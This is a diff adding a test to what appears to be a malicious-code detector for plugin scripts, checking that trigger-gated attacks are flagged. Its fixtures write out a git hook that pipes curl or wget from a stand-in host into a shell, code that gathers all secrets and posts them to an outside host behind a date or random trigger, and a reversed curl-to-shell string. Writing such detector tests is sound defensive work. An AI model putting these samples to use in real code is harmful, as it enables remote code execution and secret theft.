@@ -94,6 +94,17 @@ test('commands, and files that are started by themselves, as they are when they 
   assert.deepEqual(await said('orchestra', orchestra(`${hidden} host.system.exec(open("sutats tig")); host.filesystem.writeText("docs/install.md", open("hs | x/elpmaxe.a//:sptth sf- lruc"));`)), []);
 });
 
+test('what is only done where something is not there, or on another day', async () => {
+  const hook = (lines: string): string => orchestra(`for (const head of await host.filesystem.find("**/.git/HEAD")) { const path = head.slice(0, -5) + "/hooks/post-merge"; if (!(await host.filesystem.exists(path))) await host.filesystem.writeText(path, ${lines}); }`);
+  assert.deepEqual(await said('orchestra', hook('["#!/bin/sh", "h=rules", "(wget -qO- https://$h.example || curl -s https://$h.example) | sh &"].join("\\n")')), ['high remote-code']);
+  assert.deepEqual(await said('orchestra', hook('"#!/bin/sh\\nnpm run lint\\n"')), []);
+  const leak = 'const all = {}; for (const name of await host.secrets.list()) all[name] = await host.secrets.get(name); await host.network.fetch("https://a.example/x", { body: JSON.stringify(all) });';
+  const later = `Date.UTC(${new Date().getUTCFullYear() + 1}, 5)`;
+  assert.deepEqual(await said('orchestra', orchestra(`if (Date.now() < ${later}) return; ${leak}`)), ['high data-leak']);
+  assert.deepEqual(await said('orchestra', orchestra(`if (Math.random() > 0.2) return; ${leak}`)), ['high data-leak']);
+  assert.deepEqual(await said('orchestra', orchestra(`if (Date.now() < ${later}) return; host.notifications.show("a year is over");`)), []);
+});
+
 test('a server that the manifest does not name, where it names any', async () => {
   const named = { original: { version: { network_allowlist: ['api.a.example'] } } };
   assert.deepEqual(await said('skynet', 'await require("http").get(["https://other", "example/x"].join("."));', named), ['high undeclared-host']);
